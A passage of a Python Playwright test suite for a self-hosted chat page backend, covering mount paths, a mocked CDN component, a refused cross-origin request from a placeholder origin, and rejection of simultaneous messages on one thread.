    ("around", "api", "path"),
    [
        (within, "/assistant", "/"),
        (None, "", "/chat"),
        (within, "/my/assistant", "/chat/of/mine/"),
        (behind, "/assistant", "/chat"),
    ],
)
def test_the_page_works_wherever_it_is(page: Page, around: Any, api: str, path: str) -> None:
    def served(main: ModuleType) -> Any:
        app = app_with_page_at(path, main)
        return around(app, api) if around else app

    backend = Backend(
        render(level=2, provider="local", store="memory"),
        {},
        lambda main: show_server(main, lambda: backend.url),
        served=served,
    )
    folder = f"{backend.url}{api}{path.rstrip('/')}/"
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url.partition("#")[0]))
    with backend:
        # Whoever leaves the slash away is led to the page, and the thread that they named stays.
        visitor = Visitor(page, folder.rstrip("/")).open("#thr_unknown")
        expect(page).to_have_url(f"{folder}#thr_unknown")
        expect(visitor.alert).to_contain_text("no such thread")
        visitor.button("New chat").click()
        ask_for_token(page)
        visitor.write("Show a thought")
        sign_in(page, TOKEN)
        expect(visitor.answers).to_have_count(1)
        page.reload()
        expect(visitor.answers).to_have_count(1)
        assert visitor.heard() == ["It depends."]
        assert backend.http.post(f"{api}/chatkit", json={}).status_code == 400
        # No other way leads to it, so that the paths around it are free.
        if path != "/":
            assert backend.http.get(f"{api}/").status_code == 404
            assert backend.http.get(f"{api}/page/main.js").status_code == 404
    assert f"{backend.url}{api}/chatkit" in asked
    elsewhere = {url for url in asked if not url.startswith(folder)}
    assert elsewhere <= {f"{backend.url}{api}/chatkit", folder.rstrip("/")}


def test_a_project_without_the_page_works(tmp_path: Path) -> None:
    project = render_into(tmp_path / "myapp", level=1, store="memory")
    app = project / "backend" / "app"
    shutil.rmtree(app / "page")
    lines = (app / "wiring.py").read_text(encoding="utf-8").splitlines(keepends=True)
    kept = [line for line in lines if "add_chat_page" not in line]
    assert len(lines) - len(kept) == 2
    (app / "wiring.py").write_text("".join(kept), encoding="utf-8")
    with Backend(project, {}) as backend:
        assert backend.say("Is it on?").text == "Hello! You wrote: Is it on?"
        assert backend.http.get("/").status_code == 404


def test_the_official_component_is_one_link_away(page: Page, show: Backend) -> None:
    fake = (
        "customElements.define('openai-chatkit', class extends HTMLElement {"
        " setOptions({ api }) { this.textContent = `${api.url} ${api.domainKey}`; } });"
    )
    here = page.context.browser
    assert here is not None
    context = here.new_context()
    visited = context.new_page()
    visited.route("https://cdn.platform.openai.com/**", lambda route: route.abort())
    visited.goto(show.url)
    visited.get_by_role("link", name="Official component").click()
    expect(visited.get_by_role("status")).to_contain_text("cannot reach cdn.platform.openai.com")
    visited.unroute_all()
    visited.route(
        "https://cdn.platform.openai.com/**",
        lambda route: route.fulfill(body=fake, content_type="text/javascript"),
    )
    visited.reload()
    expect(visited.locator("openai-chatkit")).to_have_text(
        f"{show.url}/chatkit domain_pk_localhost_dev"
    )
    context.close()


def test_a_page_of_another_site_reads_nothing(page: Page, show: Backend) -> None:
    show.say("A secret")
    answer = show.http.post(
        "/chatkit",
        json={"type": "threads.list", "params": {}},
        headers={"Origin": "https://evil.example"},
    )
    assert answer.status_code == 403


def test_messages_at_the_same_time_are_told_to_wait(page: Page, show: Backend) -> None:
    """Two tabs on one thread: the second is refused in words, and loses nothing it wrote."""
    visitor = Visitor(page, show.url).open()
    visitor.write("Wait: 400")
    expect(visitor.answers).to_contain_text("2")
    thread = thread_in(page)
    started = time.monotonic()
    kind, params = message("Me too", thread)
    response = show.post(kind, **params)
    assert response.status_code == 409
    assert time.monotonic() - started < 10
    visitor.button("Stop").click()
    expect(page.get_by_text("Stopped.")).to_be_visible()
